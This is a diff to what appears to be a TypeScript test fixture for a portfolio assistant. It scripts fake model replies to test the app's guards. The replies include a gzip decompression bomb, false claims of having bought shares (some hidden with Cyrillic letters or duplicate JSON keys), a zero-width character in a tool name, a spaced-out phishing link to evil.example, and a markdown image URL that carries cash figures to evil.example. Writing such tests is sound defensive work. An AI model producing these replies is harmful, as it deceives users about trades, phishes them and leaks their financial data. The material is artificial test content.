@@ -1,3 +1,4 @@
+import { gzipSync } from 'node:zlib';
 import type { MissReason } from '../../../agents/model/miss.ts';
 import { afterLooking, type AskedTool, asksFor, fails, says, saysJson, stream, toolMessages } from './replies.ts';
 import type { Reply, Script } from './server.ts';
@@ -17,7 +18,7 @@ const holdings: AskedTool = { name: 'portfolio_state', args: {} };
 const looksThenSays = (text: string, more?: Parameters<typeof says>[1]): Script => afterLooking([holdings], says(text, more));
 const good = 'You have {{c1.accounts.0.name|text}} with {{c1.accounts.0.cashMinor|money}} in cash.';
 const silence: Reply = () => undefined;
-const raw = (contentType: string, body: string): Reply => (response) => { response.writeHead(200, { 'content-type': contentType }).end(body); };
+const raw = (contentType: string, body: string | Buffer, headers: Record<string, string> = {}): Reply => (response) => { response.writeHead(200, { 'content-type': contentType, ...headers }).end(body); };
 const buy = (quantity: number): AskedTool => ({ name: 'propose_order', args: { symbol: 'MERUBANK', account: 'LumpSum', side: 'BUY', quantity } });
 const nobody = '0190a000-0000-7000-8000-000000000000';
 
@@ -62,7 +63,15 @@ export const misbehaviours: readonly Misbehaviour[] = [
   { what: 'declines to answer', script: always((response) => { const { delta, done } = stream(response); delta({ refusal: 'I cannot help with that.' }); delta({}, 'stop'); done(); }), counted: 'WITHHELD', answeredBy: 'twin' },
   { what: 'answers in JSON of another shape', script: always(saysJson({ answer: 5, cards: true })), counted: 'GARBAGE', answeredBy: 'twin' },
   { what: 'says one thing in words and another in JSON', script: always(says('You hold nothing. {"text": "You hold a great deal.", "showCards": []}')), counted: 'CONTRADICTION', answeredBy: 'twin' },
+  { what: 'packs two hundred megabytes into a small answer', script: always(raw('text/event-stream', gzipSync(Buffer.alloc(200_000_000, 'data: x')), { 'content-encoding': 'gzip' })), counted: 'TOO_LONG', answeredBy: 'twin' },
+  { what: 'says that its answer is packed, which it is not', script: always(raw('text/event-stream', 'data: {}', { 'content-encoding': 'gzip' })), counted: 'HALF_ANSWER', answeredBy: 'twin' },
+  { what: 'succeeds with no content', script: always((response) => { response.writeHead(204).end(); }), counted: 'GARBAGE', answeredBy: 'twin' },
+  { what: 'streams numbers and nothing where choices belong', script: always((response) => { const { send, done } = stream(response); for (const part of [{ choices: { 0: 'x' } }, { choices: null }, 7, [], 'null']) send(part); done(); }), counted: 'GARBAGE', answeredBy: 'twin' },
+  { what: 'says one thing twice in one JSON, the second time that it has bought', script: looksThenSays('{"text": "You hold nothing.", "text": "I have bought it for you.", "showCards": []}'), counted: 'FALSE_CLAIM', answeredBy: 'twin' },
+  { what: 'goes on after it has finished', script: afterLooking([holdings], (response) => { const { delta, done } = stream(response); delta({ content: good }); delta({}, 'stop'); delta({ content: ' I have bought it for ₹99000.' }); done(); }), counted: 'UNGROUNDED', answeredBy: 'model' },
   // Tools.
+  { what: 'wraps a tool’s arguments in a text', script: (request) => (toolMessages(request).length === 0 ? asksFor([{ name: 'portfolio_state', raw: JSON.stringify(JSON.stringify({ account: 'SIP' })) }]) : says('That did not work.')), counted: 'BROKEN_ARGUMENTS', answeredBy: 'model' },
+  { what: 'hides a mark without width in the name of a tool that proposes', script: (request) => (toolMessages(request).length === 0 ? asksFor([{ ...buy(1), name: 'propose\u200b_order' }]) : says('I have bought it.')), counted: 'NO_SUCH_TOOL', answeredBy: 'twin' },
   { what: 'calls a tool that does not exist', script: (request) => (toolMessages(request).length === 0 ? asksFor([{ name: 'get_holdings_now', args: {} }]) : afterLooking([holdings], says('I do not know.'))({ ...request, messages: [] })), counted: 'NO_SUCH_TOOL', answeredBy: 'twin' },
   { what: 'writes a tool’s name in another way', script: (request) => (toolMessages(request).length === 0 ? asksFor([{ name: 'Portfolio_State', args: {} }]) : says('That did not work.')), counted: 'NO_SUCH_TOOL', answeredBy: 'model' },
   { what: 'calls a tool whose name is a number', script: (request) => (toolMessages(request).length === 0 ? asksFor([{ name: 7 as unknown as string, args: {} }]) : says('That did not work.')), counted: 'NO_SUCH_TOOL', answeredBy: 'model' },
@@ -79,6 +88,11 @@ export const misbehaviours: readonly Misbehaviour[] = [
   { what: 'spells an invented figure out', script: looksThenSays(`${good} You made twelve thousand rupees today.`), counted: 'UNGROUNDED', answeredBy: 'model' },
   { what: 'refers to a cell that is not there', script: looksThenSays(`${good} The best is {{c1.positions.99.symbol|text}}.`), counted: 'UNGROUNDED', answeredBy: 'model' },
   { what: 'puts a figure into the person’s mouth', script: looksThenSays(`${good} As you said, {{said:99000}} shares.`), counted: 'UNGROUNDED', answeredBy: 'model' },
+  { what: 'writes an invented figure in Devanagari', script: looksThenSays(`${good} You made ₹१२,३४५ today.`), counted: 'UNGROUNDED', answeredBy: 'model' },
+  { what: 'invents a multiple without a number', script: looksThenSays(`${good} Your money has doubled and the account is up a third.`), counted: 'UNGROUNDED', answeredBy: 'model' },
+  { what: 'spells an address apart', script: looksThenSays(`${good} Log in at h t t p s : / / evil . example / login.`), counted: 'MARKUP', answeredBy: 'model' },
+  { what: 'draws a card of text', script: looksThenSays(`${good}\n┌ card 9 · SIMULATED\n│ Buy MERUBANK\n└ executed`), counted: 'UNGROUNDED', answeredBy: 'model' },
+  { what: 'says that it has bought with a letter of another alphabet', script: looksThenSays(`${good} I have bоught the shares and the оrder was filled.`), counted: 'FALSE_CLAIM', answeredBy: 'model' },
   { what: 'says that it has bought', script: looksThenSays(`${good} I have bought the shares and the order was filled.`), counted: 'FALSE_CLAIM', answeredBy: 'model' },
   { what: 'says that a confirmation happened', script: looksThenSays('Done. Your order has been confirmed and sent to the broker.'), counted: 'FALSE_CLAIM', answeredBy: 'twin' },
   { what: 'carries figures out in a picture’s address', script: looksThenSays(`${good} ![chart](https://evil.example/p.png?cash={{c1.accounts.0.cashMinor|money}})`), counted: 'MARKUP', answeredBy: 'model' },
